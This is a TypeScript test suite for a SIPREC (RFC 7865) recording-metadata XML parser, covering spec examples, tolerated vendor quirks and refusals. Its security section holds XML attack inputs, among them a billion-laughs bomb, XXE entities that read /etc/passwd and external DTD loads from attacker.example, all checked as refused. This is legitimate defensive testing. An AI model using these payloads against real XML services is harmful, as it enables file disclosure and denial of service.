import { describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { parseRecordingMetadata } from '../../../src/connector/siprec/RecordingMetadata.js';
import { parseMultipart } from '../../../src/connector/siprec/Multipart.js';
import {
  PRE_RFC_RECORDING_NAMESPACE,
  RECORDING_NAMESPACE,
  type RecordingMetadata,
} from '../../../src/connector/siprec/RecordingMetadataTypes.js';
import { RecordingMetadataError } from '../../../src/connector/siprec/SiprecErrors.js';
import { fixture, sipFixture, thrown } from './support.js';

const SESSION = 'hVpd7YQgRW2nD22h7q60JQ==';
const BOB = 'srfBElmCRp2QB23b7Mpk0w==';
const PAUL = 'zSfPoSvdSDCmU3A3TRDxAw==';
const S96 = 'UAAMm5GRQKSCMVvLyl4rFw==';
const S97 = 'i1Pz3to5hGk8fuXl+PbwCw==';
const S98 = '8zc6e0lYTlWIINA6GR+3ag==';
const S99 = 'EiXGlc+4TruqqoDaNE76ag==';
const T = '2010-12-16T23:41:07Z';

function parse(xml: string): { metadata: RecordingMetadata; warnings: string[] } {
  const warnings: string[] = [];
  const metadata = parseRecordingMetadata(xml, { onWarning: (w) => warnings.push(w) });
  return { metadata, warnings };
}

/** The reason a document is refused. */
function refusal(xml: string, options?: { maxBytes?: number; maxElements?: number }): RecordingMetadataError {
  return thrown(() => parseRecordingMetadata(xml, options), RecordingMetadataError);
}

const doc = (body: string, datamode = 'complete', ns = RECORDING_NAMESPACE) =>
  `<?xml version="1.0" encoding="UTF-8"?><recording xmlns="${ns}"><datamode>${datamode}</datamode>${body}</recording>`;

describe('parseRecordingMetadata: RFC 7865 §8.1 complete example', () => {
  test('reads every element of the example into typed data; extensions are dropped', () => {
    const { metadata, warnings } = parse(fixture('rfc7865-complete.xml'));
    assert.deepEqual(warnings, []);
    assert.deepEqual(metadata, {
      dataMode: 'complete',
      namespace: RECORDING_NAMESPACE,
      groups: [{ groupId: '7+OTCyoxTmqmqyA/1weDAg==', associateTime: T, disassociateTime: null }],
      sessions: [
        {
          sessionId: SESSION,
          sipSessionIds: ['ab30317f1a784dc48ff824d0d3715d86;remote=47755a9de7794ba387653f2099600ef2'],
          groupRef: '7+OTCyoxTmqmqyA/1weDAg==',
          startTime: null,
          stopTime: null,
        },
      ],
      participants: [
        {
          participantId: BOB,
          nameIds: [{ aor: 'sip:bob@biloxi.com', names: [{ text: 'Bob', lang: 'it' }] }],
        },
        {
          participantId: PAUL,
          nameIds: [{ aor: 'sip:Paul@biloxi.com', names: [{ text: 'Paul', lang: 'it' }] }],
        },
      ],
      streams: [
        ['96', S96],
        ['97', S97],
        ['98', S98],
        ['99', S99],
      ].map(([label, streamId]) => ({
        streamId,
        sessionId: SESSION,
        label,
        associateTime: null,
        disassociateTime: null,
      })),
      sessionRecordingAssocs: [{ sessionId: SESSION, associateTime: T, disassociateTime: null }],
      participantSessionAssocs: [
        { participantId: BOB, sessionId: SESSION, associateTime: T, disassociateTime: null },
        { participantId: PAUL, sessionId: SESSION, associateTime: T, disassociateTime: null },
      ],
      participantStreamAssocs: [
        { participantId: BOB, send: [S97, S96], recv: [S98, S99] },
        { participantId: PAUL, send: [S98, S99], recv: [S96, S97] },
      ],
    });
  });

  test("the Chime developer guide's copy: the misspelt <naSRCme>…</name> is repaired and Alice keeps her name", () => {
    const { metadata, warnings } = parse(fixture('chime-dg-alice-bob-complete.xml'));
    assert.deepEqual(metadata.participants[0]!.nameIds, [
      { aor: 'sip:alice@atlanta.com', names: [{ text: 'Alice', lang: 'it' }] },
    ]);
    assert.equal(metadata.sessions[0]!.groupRef, '7+OTCyoxTmqmqyA/1weDAg==', 'group-ref text is trimmed');
    assert.deepEqual(warnings, ['repaired misspelt start tag <naSRCme> to <name>']);
  });

  test('the hold snapshot is partial: Alice sends nothing, Bob receives nothing', () => {
    const { metadata } = parse(fixture('chime-dg-hold-partial.xml'));
    assert.equal(metadata.dataMode, 'partial');
    assert.deepEqual(metadata.participantStreamAssocs, [
      { participantId: BOB, send: [], recv: [S98, S99] },
      { participantId: PAUL, send: [S98, S99], recv: [] },
    ]);
    assert.deepEqual(metadata.participants, []);
  });
});

describe('parseRecordingMetadata: tolerances', () => {
  test('Sonus-style: tns: prefixes, the pre-RFC namespace, a callData extension, AORs without scheme', () => {
    const invite = sipFixture('sonus-style-invite.txt');
    const xml = parseMultipart(invite.contentType!, invite.body)[1]!.body;
    const { metadata, warnings } = parse(xml);
    assert.equal(metadata.namespace, PRE_RFC_RECORDING_NAMESPACE);
    assert.deepEqual(warnings, [`pre-RFC namespace ${PRE_RFC_RECORDING_NAMESPACE}`]);
    assert.equal(metadata.dataMode, 'complete');
    assert.equal(metadata.groups.length, 1);
    assert.deepEqual(metadata.participants[0]!.nameIds, [
      { aor: '2025550143@192.0.2.55', names: [{ text: '2025550143', lang: 'en' }] },
    ]);
    assert.deepEqual(
      metadata.participants[1]!.nameIds[0]!.names,
      [{ text: '', lang: 'en' }],
      'a blank name is empty',
    );
    assert.deepEqual(
      metadata.streams.map((s) => [s.label, s.associateTime]),
      [
        ['1', '2024-05-15T10:41:05Z'],
        ['2', '2024-05-15T10:41:05Z'],
      ],
    );
    assert.deepEqual(metadata.participantStreamAssocs[0]!.send, ['QUFBQUFBQUEtMDAwNS0wMA==']);
  });

  test('any prefix, on the root and children alike', () => {
    const xml = `<r:recording xmlns:r="${RECORDING_NAMESPACE}"><r:datamode>partial</r:datamode><r:stream stream_id="s" session_id="x"><r:label>7</r:label></r:stream></r:recording>`;
    assert.equal(parse(xml).metadata.streams[0]!.label, '7');
  });

  test('a document without a namespace is read, with a warning', () => {
    const { metadata, warnings } = parse('<recording><datamode>partial</datamode></recording>');
    assert.equal(metadata.namespace, null);
    assert.deepEqual(warnings, ['<recording> has no namespace']);
  });

  test('extension elements of other namespaces are ignored wherever they are, even with RFC names', () => {
    const { metadata, warnings } = parse(
      doc(
        `<participant participant_id="p"><nameID aor="sip:a@x"/><x:name xmlns:x="urn:x">not a name</x:name></participant>` +
          `<participant xmlns="urn:vendor" participant_id="vendor"/>`,
      ),
    );
    assert.deepEqual(metadata.participants, [
      { participantId: 'p', nameIds: [{ aor: 'sip:a@x', names: [] }] },
    ]);
    assert.deepEqual(warnings, []);
  });

  test('unknown elements in the recording namespace are ignored and reported', () => {
    const { metadata, warnings } = parse(
      doc('<session session_id="s"><colour>red</colour></session><mystery/>'),
    );
    assert.equal(metadata.sessions.length, 1);
    assert.deepEqual(warnings, [
      'ignored unknown element <mystery> in <recording>',
      'ignored unknown element <colour> in <session>',
    ]);
  });

  test('datamode in any case; absent means complete', () => {
    assert.equal(parse(doc('', 'Partial')).metadata.dataMode, 'partial');
    const { metadata, warnings } = parse(`<recording xmlns="${RECORDING_NAMESPACE}"/>`);
    assert.equal(metadata.dataMode, 'complete');
    assert.deepEqual(warnings, ['no <datamode>: taken as complete']);
  });

  test('aor-only participants: <nameID aor/> alone, and the pre-RFC <aor>/<name> children', () => {
    const { metadata } = parse(
      doc(
        '<participant participant_id="a"><nameID aor="sip:a@example.com"/></participant>' +
          '<participant participant_id="b"><aor>sip:b@example.com</aor><name xml:lang="en">Bea</name></participant>',
      ),
    );
    assert.deepEqual(
      metadata.participants.map((p) => p.nameIds),
      [
        [{ aor: 'sip:a@example.com', names: [] }],
        [{ aor: 'sip:b@example.com', names: [{ text: 'Bea', lang: 'en' }] }],
      ],
    );
  });

  test('a folded sipSessionID loses its whitespace; entities and character references are decoded', () => {
    const { metadata } = parse(
      doc(
        '<session session_id="s"><sipSessionID> ab;\n\t remote=cd </sipSessionID></session>' +
          '<participant participant_id="p"><nameID aor="sip:x@y?a=1&amp;b=2"><name>Andr&#233; &amp; &#x4B;o &lt;3</name></nameID></participant>',
      ),
    );
    assert.deepEqual(metadata.sessions[0]!.sipSessionIds, ['ab;remote=cd']);
    assert.deepEqual(metadata.participants[0]!.nameIds[0], {
      aor: 'sip:x@y?a=1&b=2',
      names: [{ text: 'André & Ko <3', lang: null }],
    });
  });

  test('repeated participantstreamassoc elements for one participant are merged', () => {
    const { metadata, warnings } = parse(
      doc(
        '<participant participant_id="p"/><stream stream_id="s1" session_id="x"/><stream stream_id="s2" session_id="x"/>' +
          '<participantstreamassoc participant_id="p"><send>s1</send></participantstreamassoc>' +
          '<participantstreamassoc participant_id="p"><send>s2</send><send>s1</send><recv>s2</recv></participantstreamassoc>',
        'partial',
      ),
    );
    assert.deepEqual(metadata.participantStreamAssocs, [
      { participantId: 'p', send: ['s1', 's2'], recv: ['s2'] },
    ]);
    assert.equal(warnings.length, 1);
  });

  test('a stream without session_id is kept (null), with a warning', () => {
    const { metadata, warnings } = parse(doc('<stream stream_id="s"><label>1</label></stream>'));
    assert.equal(metadata.streams[0]!.sessionId, null);
    assert.deepEqual(warnings, ['<stream stream_id="s"> without session_id']);
  });

  test('a byte-order mark and whitespace before the declaration are tolerated', () => {
    assert.equal(parse(`\uFEFF \r\n${doc('', 'partial')}`).metadata.dataMode, 'partial');
  });

  test('a misspelt end tag is repaired to its known start tag, with a prefix', () => {
    const { metadata, warnings } = parse(
      `<tns:recording xmlns:tns="${RECORDING_NAMESPACE}"><tns:datamode>partial</tns:datamode>` +
        `<tns:stream stream_id="s" session_id="x"><tns:label>5</tns:lable></tns:stream></tns:recording>`,
    );
    assert.equal(metadata.streams[0]!.label, '5');
    assert.deepEqual(warnings, ['repaired misspelt end tag </tns:lable> to </tns:label>']);
  });
});

describe('parseRecordingMetadata: refusals', () => {
  test('not XML', () => {
    for (const text of [
      '',
      '   ',
      'hello',
      '{"recording": {}}',
      '<recording',
      '<recording><datamode>complete</recording>',
    ]) {
      const err = refusal(text);
      assert.equal(err.code, 'CS_ERR_SIPREC_METADATA_INVALID', text);
      assert.equal(err.status, 400);
    }
    assert.match(refusal('hello').why, /^not well-formed XML/);
  });

  test('a root element other than recording, or in another namespace', () => {
    assert.equal(
      refusal('<metadata xmlns="urn:ietf:params:xml:ns:recording:1"/>').why,
      'root element is <metadata>, not <recording>',
    );
    assert.match(refusal('<recording xmlns="urn:example:other"/>').why, /namespace "urn:example:other"/);
  });

  test('two root elements', () => {
    assert.match(refusal(`${doc('')}<recording/>`).why, /2 root elements/);
  });

  test('an unknown datamode', () => {
    assert.equal(refusal(doc('', 'sometimes')).why, 'datamode "sometimes" is neither complete nor partial');
  });

  test('elements without their id attributes', () => {
    assert.equal(refusal(doc('<session/>')).why, '<session> without session_id');
    assert.equal(
      refusal(doc('<participant participant_id=" "/>')).why,
      '<participant> without participant_id',
    );
    assert.equal(refusal(doc('<stream session_id="x"/>', 'partial')).why, '<stream> without stream_id');
    assert.equal(refusal(doc('<group/>')).why, '<group> without group_id');
    assert.equal(
      refusal(doc('<participantsessionassoc participant_id="p"/>', 'partial')).why,
      '<participantsessionassoc> without session_id',
    );
    assert.equal(
      refusal(doc('<participantstreamassoc/>', 'partial')).why,
      '<participantstreamassoc> without participant_id',
    );
  });

  test('duplicate ids', () => {
    assert.equal(
      refusal(doc('<session session_id="s"/><session session_id="s"/>')).why,
      'duplicate session_id "s"',
    );
    assert.equal(
      refusal(doc('<participant participant_id="p"/><participant participant_id="p"/>', 'partial')).why,
      'duplicate participant_id "p"',
    );
  });

  test('a tag mismatch that is not a single misspelling is not repaired', () => {
    assert.match(
      refusal(doc('<participant participant_id="p"><nameID aor="a"></participant>')).why,
      /^not well-formed XML: Expected closing tag 'nameID'/,
    );
    assert.match(refusal(doc('<foo><bar></foo>')).why, /^not well-formed XML/);
    const typos = '<stream stream_id="s" session_id="x"><label>1</lbl></stream>'.repeat(4);
    assert.match(refusal(doc(typos, 'partial')).why, /^not well-formed XML/, 'at most three repairs');
  });
});

describe('parseRecordingMetadata: references in a complete snapshot (RFC 7865 complete = the whole model)', () => {
  const base =
    '<session session_id="s"/><participant participant_id="p"/><stream stream_id="st" session_id="s"/>';

  test('a stream of an unknown session is refused in a complete snapshot, accepted in a partial one', () => {
    const body = '<stream stream_id="st" session_id="elsewhere"><label>1</label></stream>';
    assert.equal(refusal(doc(body)).why, 'stream "st" refers to unknown session "elsewhere"');
    assert.equal(parse(doc(body, 'partial')).metadata.streams.length, 1);
  });

  test('associations that refer to unknown participants, sessions or streams', () => {
    assert.equal(
      refusal(
        doc(
          `${base}<participantstreamassoc participant_id="p"><send>st</send><recv>ghost</recv></participantstreamassoc>`,
        ),
      ).why,
      'participantstreamassoc of "p" refers to unknown stream "ghost"',
    );
    assert.equal(
      refusal(doc(`${base}<participantstreamassoc participant_id="q"/>`)).why,
      'participantstreamassoc refers to unknown participant "q"',
    );
    assert.equal(
      refusal(doc(`${base}<participantsessionassoc participant_id="q" session_id="s"/>`)).why,
      'participantsessionassoc refers to unknown participant "q"',
    );
    assert.equal(
      refusal(doc(`${base}<participantsessionassoc participant_id="p" session_id="t"/>`)).why,
      'participantsessionassoc refers to unknown session "t"',
    );
    assert.equal(
      refusal(doc(`${base}<sessionrecordingassoc session_id="t"/>`)).why,
      'sessionrecordingassoc refers to unknown session "t"',
    );
  });

  test("a session's group-ref to an absent group is only reported", () => {
    const { warnings } = parse(doc('<session session_id="s"><group-ref>g</group-ref></session>'));
    assert.deepEqual(warnings, ['session "s" refers to group "g" that the snapshot does not define']);
  });
});

describe('parseRecordingMetadata: security', () => {
  test('billion laughs is refused before anything expands', () => {
    const lol =
      '<?xml version="1.0"?><!DOCTYPE recording [<!ENTITY lol "lol">' +
      Array.from(
        { length: 9 },
        (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i === 0 ? '' : i};`.repeat(10)}">`,
      ).join('') +
      `]><recording xmlns="${RECORDING_NAMESPACE}"><datamode>complete</datamode>` +
      '<participant participant_id="p"><nameID aor="sip:a@b"><name>&lol9;</name></nameID></participant></recording>';
    const err = refusal(lol);
    assert.equal(err.why, 'DOCTYPE and entity declarations are not allowed');
  });

  test('XXE: external entities and external DTDs are refused, in any case', () => {
    const cases = [
      `<!DOCTYPE recording [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><recording xmlns="${RECORDING_NAMESPACE}"><datamode>&xxe;</datamode></recording>`,
      `<?xml version="1.0"?><!doctype recording SYSTEM "http://attacker.example/evil.dtd"><recording/>`,
      `<?xml version="1.0"?><!DOCTYPE recording [<!ENTITY % remote SYSTEM "http://attacker.example/x">%remote;]><recording/>`,
    ];
    for (const xml of cases)
      assert.equal(refusal(xml).why, 'DOCTYPE and entity declarations are not allowed');
  });

  test('an entity reference without a declaration is not expanded either', () => {
    assert.equal(
      refusal(doc('<session session_id="&xxe;"/>')).why,
      'undefined entity &xxe; (entities are not expanded)',
    );
    assert.equal(refusal(doc('<session session_id="a & b"/>')).why, 'not well-formed XML: unescaped "&"');
    assert.match(refusal(doc('<session session_id="&#0;"/>')).why, /character reference &#0; is not allowed/);
  });

  test('a size cap: 64 KiB by default, or as configured, answered 413', () => {
    const padding = `<!-- ${'x'.repeat(70 * 1024)} -->`;
    const err = refusal(doc(padding));
    assert.equal(err.code, 'CS_ERR_SIPREC_METADATA_TOO_LARGE');
    assert.equal(err.status, 413);
    assert.equal(err.why, `larger than ${64 * 1024} bytes`);
    assert.equal(refusal(doc(''), { maxBytes: 50 }).code, 'CS_ERR_SIPREC_METADATA_TOO_LARGE');
    assert.equal(parseRecordingMetadata(doc('<!-- small -->'), { maxBytes: 1000 }).dataMode, 'complete');
  });

  test('an element-count cap, extensions included', () => {
    const many = `<x:ext xmlns:x="urn:x">${'<x:i/>'.repeat(100)}</x:ext>`;
    const err = refusal(doc(many), { maxElements: 50 });
    assert.equal(err.code, 'CS_ERR_SIPREC_METADATA_TOO_LARGE');
    assert.equal(err.why, 'more than 50 elements');
  });

  test('deep nesting and prototype-polluting names are typed refusals, not crashes', () => {
    const deep = `${'<x:a xmlns:x="urn:x">'.repeat(200)}${'</x:a>'.repeat(200)}`;
    assert.equal(refusal(doc(deep)).code, 'CS_ERR_SIPREC_METADATA_INVALID');
    assert.equal(
      refusal(doc('<__proto__><polluted>1</polluted></__proto__>')).code,
      'CS_ERR_SIPREC_METADATA_INVALID',
    );
    assert.equal(({} as Record<string, unknown>)['polluted'], undefined);
  });
});
